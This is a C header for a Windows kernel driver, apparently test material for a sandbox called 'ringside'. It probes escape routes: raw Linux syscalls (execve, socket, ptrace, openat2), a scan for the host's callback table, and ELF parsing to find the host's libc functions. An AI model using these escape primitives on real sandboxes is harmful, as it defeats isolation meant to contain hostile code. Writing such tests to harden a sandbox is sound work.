/*
 * Ways out of the machine that a hostile driver would try. Relative paths are those of the directory that ringside was started in; it holds
 * "canary", which must stay as it is.
 */
#pragma once
#include <ntifs.h>

#define LINUX_EXECVE   59
#define LINUX_OPEN     2
#define LINUX_SOCKET   41
#define LINUX_PTRACE   101
#define LINUX_OPENAT2  437
#define LINUX_CREATE   0101 /* O_WRONLY | O_CREAT */
#define LINUX_INTERNET 2
#define LINUX_STREAM   1
#define LINUX_ATTACH   16
#define LINUX_HERE     -100 /* AT_FDCWD */

typedef __attribute__((sysv_abi)) LONG64 (*HOST_FUNCTION)(ULONG64, ULONG64, ULONG64, ULONG64, ULONG64, ULONG64);

/* A system call as Linux takes it. */
static inline LONG64 RawCall(ULONG64 Number, ULONG64 First, ULONG64 Second, ULONG64 Third) {
    LONG64 Result;
    register ULONG64 R10 __asm__("r10") = 0;
    __asm__ volatile("syscall" : "=a"(Result) : "a"(Number), "D"(First), "S"(Second), "d"(Third), "r"(R10) : "rcx", "r11", "memory");
    return Result;
}

#define ESCAPE_KERNEL     0x400000100000ull
#define ESCAPE_HOST_START 0x430000000000ull
#define ESCAPE_HOST_END   0x7FFFFFFFFFFFull

static inline BOOLEAN EscapeIsHost(ULONG64 Value) { return Value >= ESCAPE_HOST_START && Value < ESCAPE_HOST_END; }

/* The table of functions through which the kernel calls the host: the kernel has a pointer to it somewhere among its data. */
static inline const ULONG64 *EscapeFindTable(VOID) {
    const UCHAR *Kernel = (const UCHAR *)ESCAPE_KERNEL;
    ULONG Headers = *(const ULONG *)(Kernel + 0x3C);
    USHORT Sections = *(const USHORT *)(Kernel + Headers + 6), Optional = *(const USHORT *)(Kernel + Headers + 20);
    const UCHAR *Section = Kernel + Headers + 24 + Optional;
    for (; Sections != 0; Sections--, Section += 40) {
        ULONG Size = *(const ULONG *)(Section + 8), Rva = *(const ULONG *)(Section + 12);
        if (!(*(const ULONG *)(Section + 36) & 0x80000000)) {
            continue;
        }
        for (ULONG Offset = 0; Offset + 8 <= Size; Offset += 8) {
            const ULONG64 *Table = *(const ULONG64 **)(Kernel + Rva + Offset);
            BOOLEAN Plausible = EscapeIsHost((ULONG64)Table) && ((ULONG64)Table & 7) == 0;
            for (ULONG i = 0; Plausible && i < 8; i++) {
                Plausible = EscapeIsHost(Table[i]) && Table[i] - Table[0] < 0x1000;
            }
            if (Plausible) {
                return Table;
            }
        }
    }
    return NULL;
}

/* Where the host's executable begins: its ELF header lies below its code. */
static inline const UCHAR *EscapeFindHost(VOID) {
    const ULONG64 *Table = EscapeFindTable();
    if (Table == NULL) {
        return NULL;
    }
    for (ULONG64 Page = Table[0] & ~0xFFFull;; Page -= 0x1000) {
        if (*(const ULONG *)Page == 0x464C457F) {
            return (const UCHAR *)Page;
        }
    }
}

/* What the host has imported of the C library under that name, from its ELF symbols and relocations. */
static inline HOST_FUNCTION EscapeFindFunction(PCSTR Name) {
    const UCHAR *Host = EscapeFindHost();
    const ULONG64 *Dynamic = NULL;
    const UCHAR *Symbols = NULL, *Relocations[2] = {NULL, NULL};
    PCSTR Strings = NULL;
    ULONG64 Sizes[2] = {0, 0};
    for (ULONG i = 0; Host != NULL && i < *(const USHORT *)(Host + 56); i++) {
        const UCHAR *Header = Host + *(const ULONG64 *)(Host + 32) + i * 56;
        if (*(const ULONG *)Header == 2) {
            Dynamic = (const ULONG64 *)(Host + *(const ULONG64 *)(Header + 16));
        }
    }
    for (; Dynamic != NULL && Dynamic[0] != 0; Dynamic += 2) {
        ULONG64 Value = Dynamic[1];
        const UCHAR *At = EscapeIsHost(Value) ? (const UCHAR *)Value : Host + Value;
        switch (Dynamic[0]) {
        case 2: Sizes[0] = Value; break;
        case 5: Strings = (PCSTR)At; break;
        case 6: Symbols = At; break;
        case 7: Relocations[1] = At; break;
        case 8: Sizes[1] = Value; break;
        case 23: Relocations[0] = At; break;
        }
    }
    for (ULONG i = 0; i < 2; i++) {
        for (ULONG64 Offset = 0; Relocations[i] != NULL && Offset < Sizes[i]; Offset += 24) {
            const ULONG64 *Entry = (const ULONG64 *)(Relocations[i] + Offset);
            if (strcmp(Strings + *(const ULONG *)(Symbols + (Entry[1] >> 32) * 24), Name) == 0) {
                return *(HOST_FUNCTION *)(Host + Entry[0]);
            }
        }
    }
    return NULL;
}
